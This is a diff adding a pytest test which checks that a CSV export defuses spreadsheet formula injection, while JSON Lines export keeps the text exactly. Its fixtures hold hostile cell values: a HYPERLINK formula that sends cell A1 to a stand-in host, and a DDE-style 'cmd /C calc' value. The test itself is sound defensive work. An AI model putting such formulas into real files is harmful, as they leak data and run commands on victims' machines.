@@ -103,3 +103,31 @@ def test_mask_secrets_hides_the_password_wherever_a_message_repeats_it(url: str)
     assert SECRET not in masked
     assert SECRET not in mask_url(url)
     assert "***" in mask_url(url)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path: Path, start: str) -> None:
+    import csv
+    import io
+    import json
+
+    from test_store import make_extraction
+
+    formula = f'{start}HYPERLINK("http://example.invalid/?"&A1,"click")'
+    extraction = make_extraction(formula)
+    event = extraction["events"][0]
+    event.update(location=f"{start}SUM(1+1)", attribution=f"{start}cmd|' /C calc'!A0")
+    event["source"] = [f"{start}actor"]
+    db = str(tmp_path / "csv.db")
+    with Store(db) as store:
+        store.add(extraction)
+    result = runner.invoke(app, ["export", "--format", "csv", "--db", db])
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    for column in ("evidence", "location", "attribution", "source"):
+        assert row[column].startswith("'" + start), (column, row[column])
+    assert row["type"] == "VISIT"  # harmless cells are written as they are
+    assert row["target"] == "RUS"
+    # JSON Lines is data, not a spreadsheet: it keeps the text exactly.
+    jsonl = runner.invoke(app, ["export", "--format", "jsonl", "--db", db]).stdout
+    assert json.loads(jsonl)["location"] == f"{start}SUM(1+1)"
